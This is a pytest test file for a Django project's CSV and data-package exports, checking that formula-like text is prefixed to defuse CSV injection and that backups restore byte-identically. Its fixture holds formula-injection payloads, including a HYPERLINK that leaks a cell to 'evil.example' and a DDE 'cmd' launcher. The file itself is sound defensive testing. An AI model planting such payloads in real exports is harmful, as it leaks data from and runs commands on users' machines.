"""The csv export neutralises text a spreadsheet would run as a formula; the data package (the
backup) keeps every text exactly, so backup and restore stay byte-identical."""

from __future__ import annotations

import csv

import pytest

from observatory.exports import export_run
from observatory.exports.restore import package_restore

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.fixture
def formulas(open_dataset):
    """Formula-like text in entities, relations and codings that a public export publishes, and a
    negative coordinate and a number written as text that must stay numbers."""
    from observatory.coding.models import Coding
    from observatory.inventory.models import Entity, Location, Relation

    Entity.objects.filter(slug="szoil").update(name=FORMULA, name_en="-12.5", name_zh="@SUM(1+1)")
    Entity.objects.filter(slug="x-factory").update(name="+cmd|' /C calc'!A0", name_en="\t=1+1", name_zh="\r=2")
    Relation.objects.filter(source=open_dataset).update(evidence="-2+3")
    Coding.objects.filter(source=open_dataset).update(quote="- open to all makers")
    Location.objects.filter(entity__slug="szoil").update(source=open_dataset, original_lng=-73.5, lng=-73.5)
    return open_dataset


def _rows(path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def test_the_csv_export_prefixes_text_that_would_run_as_a_formula(formulas, tmp_path):
    export_run("csv", tmp_path / "csv")
    entities = {row["slug"]: row for row in _rows(tmp_path / "csv" / "entities.csv")}
    assert entities["szoil"]["name"] == "'" + FORMULA
    assert entities["szoil"]["name_zh"] == "'@SUM(1+1)"
    assert entities["szoil"]["name_en"] == "-12.5"  # a number, not a formula
    assert entities["x-factory"]["name"] == "'+cmd|' /C calc'!A0"
    assert entities["x-factory"]["name_en"] == "'\t=1+1" and entities["x-factory"]["name_zh"] == "'\r=2"
    assert entities["seeed-studio"]["name"] == "Seeed Studio"  # ordinary text as it is
    assert [r["evidence"] for r in _rows(tmp_path / "csv" / "relations.csv")] == ["'-2+3"]
    assert [c["quote"] for c in _rows(tmp_path / "csv" / "codings.csv")] == ["'- open to all makers"]
    locations = [r for r in _rows(tmp_path / "csv" / "locations.csv") if r["original_lng"].startswith("-")]
    assert [(r["original_lng"], r["lng"]) for r in locations] == [("-73.5", "-73.5")]  # numbers untouched


def test_the_data_package_keeps_text_exactly_and_restores_it(formulas, tmp_path):
    from observatory.coding.models import Code, Codebook, Coding, Document, Excerpt
    from observatory.inventory.models import Entity, Relation, Source, SourceRecord

    export_run("datapackage", tmp_path / "public")
    entities = {row["slug"]: row for row in _rows(tmp_path / "public" / "entities.csv")}
    assert entities["szoil"]["name"] == FORMULA

    export_run("datapackage", tmp_path / "first", include_restricted=True)
    for model in (Coding, Excerpt, Document, Relation, Entity, Code, Codebook, SourceRecord, Source):
        model.objects.all().delete()
    package_restore(tmp_path / "first")
    assert Entity.objects.get(slug="szoil").name == FORMULA
    assert Entity.objects.get(slug="x-factory").name_en == "\t=1+1"
    export_run("datapackage", tmp_path / "second", include_restricted=True)
    for path in sorted((tmp_path / "first").iterdir()):
        assert path.read_bytes() == (tmp_path / "second" / path.name).read_bytes(), path.name
